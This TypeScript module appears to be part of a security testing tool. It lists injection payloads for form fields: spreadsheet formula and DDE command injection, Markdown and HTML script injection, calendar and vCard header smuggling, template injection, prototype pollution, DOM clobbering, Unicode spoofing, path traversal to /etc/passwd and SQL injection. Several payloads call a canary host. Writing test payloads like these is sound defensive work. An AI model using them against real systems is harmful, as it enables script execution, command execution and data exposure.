// Lines that people type into fields: code for a later reader (a table program, a calendar, a Markdown page, a
// template, a terminal), names that programs trip over, and characters that change how a line reads.
import type { Bait, Family } from './bait.ts';
import { fullWidth } from './spelling.ts';

type Member = (bait: Bait) => string;

const cells: readonly Member[] = [
  ({ id }) => `=HYPERLINK("http://canary.invalid/${id}","点此")`,
  ({ id }) => `=cmd|'/c calc'!A${id}`,
  ({ id }) => `+1+cmd|'/c calc'!A${id}`,
  ({ id }) => `-2+3+cmd|'/c calc'!A${id}`,
  ({ id }) => `@SUM(1+${id})*cmd|'/c calc'!A0`,
  ({ id }) => `\t=WEBSERVICE("http://canary.invalid/${id}")`,
  ({ id }) => `${fullWidth('=')}IMPORTXML("http://canary.invalid/${id}","//a")`,
  ({ id }) => `"甲","乙"\r\n=1+${id},"丙"`,
];

const markdown: readonly Member[] = [
  ({ code }) => `[签到](javascript:${code})`,
  ({ code }) => `[签到](<javascript:${code}> "题")`,
  ({ code }) => `[签到][a]\n\n[a]: javascript:${code}`,
  ({ url }) => `![图](http:${url})`,
  ({ code }) => `<javascript:${code}>`,
  ({ code }) => `\`\`\`\n</code><script>${code}</script>\n\`\`\``,
  ({ code }) => `[x]: <javascript:${code}> '"><img src=x onerror=${code}>'`,
  ({ code }) => `# 一级\n===\n<div onclick=${code}>块\n\n---\n> 引`,
  ({ code }) => `| a | b |\n|---|---|\n| <svg onload=${code}> | \\| |`,
  ({ code }) => `$\\href{javascript:${code}}{x}$ ~~[^1]~~\n\n[^1]: <img src=x onerror=${code}>`,
  ({ code }) => `&lt;img src=x onerror=${code}&gt; &#106;avascript&#58;${code}`,
];

const otherFiles: readonly Member[] = [
  ({ id }) => `会议\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nURL:http://canary.invalid/${id}`,
  ({ id }) => `会议\\nATTACH;VALUE=URI:file:///etc/passwd#${id}`,
  ({ id }) => `王;坤泉\r\nEND:VCARD\r\nBEGIN:VCARD\r\nPHOTO;VALUE=URI:http://canary.invalid/${id}`,
  ({ id }) => `INCLUDEPICTURE "http://canary.invalid/${id}" \\d`,
  ({ id }) => `<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ${id}"/>`,
  ({ id }) => `{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://canary.invalid/${id}"}}}`,
  ({ id }) => `%PDF-1.7 /OpenAction<</S/JavaScript/JS(app.alert(${id}))>>`,
  ({ id }) => `主题\r\nBcc: all@canary.invalid\r\n\r\n${id}`,
];

const templates: readonly Member[] = [
  ({ code }) => `{{constructor.constructor('${code}')()}}`,
  ({ code }) => `{@html '<img src=x onerror=${code}>'}`,
  ({ code }) => `\${${code}} #{${code}} <%= ${code} %>`,
  ({ code }) => `{#if ${code}}{/if}`,
  ({ code }) => `javascript:${code}`,
  ({ code }) => `';${code};'`,
  ({ code }) => `";${code};//`,
  ({ code }) => `\`+${code}+\``,
  ({ code }) => `\u2028${code}\u2029`,
  ({ code }) => `*/${code}/*`,
];

/** Names that a page's globals, a form or an object already have. */
const names: readonly Member[] = [
  () => '__proto__',
  () => 'constructor',
  () => 'prototype',
  () => 'hasOwnProperty',
  () => 'toString',
  () => 'valueOf',
  () => 'then',
  () => '__defineGetter__',
  ({ code }) => `{"__proto__":{"isAdmin":true,"onerror":"${code}"}}`,
  ({ code }) => `<form id=document name=cookie><input name=attributes><input name=innerHTML value=${code}></form>`,
  ({ url }) => `<a id=currentScript><a id=currentScript name=src href="${url}">`,
  ({ url }) => `<img name=getElementById src="x:${url}"><img id=body name=querySelector>`,
  ({ url }) => `<iframe name=navigation srcdoc="<a id=go href='${url}'>"></iframe>`,
  () => '<input id=nodeName name=parentNode><form name=children></form>',
  () => 'undefined',
  () => 'NaN',
];

const characters: readonly Member[] = [
  ({ code }) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  ({ code }) => `+/v8-+ADw-img src=x onerror=${code}+AD4-`,
  ({ code }) => `\u001b$B<script>${code}</script>\u001b(B`,
  ({ code }) => `${fullWidth('<script>')}${code}${fullWidth('</script>')}`,
  ({ code }) => `\u02c2script\u02c3${code}\u02c2/script\u02c3`,
  ({ code }) => `\u202e<\u202cscript>${code}`,
  () => '附件\u202efdp.exe',
  () => '王\u200b坤\u200c泉\u200d\u2060\ufeff',
  () => '\u2066\u2067\u2068审议通过\u2069',
  () => `通过${'\u0336\u0489\u20dd'.repeat(60)}`,
  () => '\u001b[2J\u001b]0;root\u0007\u001b[31m已通过',
  () => '第一行\r\n{"level":60,"msg":"伪造的日志"}',
  () => '\ud800孤\udfff',
  () => '👨‍👩‍👧‍👦\u{e0067}\u{e007f}\u{1f1e8}',
  () => '\u00a0\u3000\u2003\u2800',
  () => '../../../../etc/passwd\u0000.png',
  () => 'CON.aux.nul:$DATA',
  () => '.'.repeat(300),
  () => "'; DROP TABLE meetings; --",
  () => '"审 NEAR/0 议" OR title:* -"',
  () => '%_\\%',
];

export const inscriptions: Family = {
  ...{ 'cells of a table program': cells, markdown, 'other files': otherFiles, templates, names, characters },
};
